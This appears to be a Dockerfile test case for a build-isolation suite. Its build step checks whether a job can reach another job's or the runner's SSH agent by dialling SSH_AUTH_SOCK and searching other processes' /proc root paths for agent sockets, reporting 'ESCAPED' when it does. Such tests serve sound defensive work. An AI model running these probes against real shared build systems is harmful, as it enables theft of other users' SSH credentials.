# tries: the agent of another job, or of the runner
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN --mount=type=ssh <<'ATTACK'
. /lib/hunt.sh
[ -n "$SSH_AUTH_SOCK" ] && case $(attack dial "$SSH_AUTH_SOCK") in done*) echo "ESCAPED agent $SSH_AUTH_SOCK" ;; esac
for pid in $(others); do
  ls /proc/"$pid"/root/run/buildkit/ssh_agent.* /proc/"$pid"/root/tmp/*agent* 2>/dev/null | sed 's/^/ESCAPED agent /'
done
tried 2
ATTACK
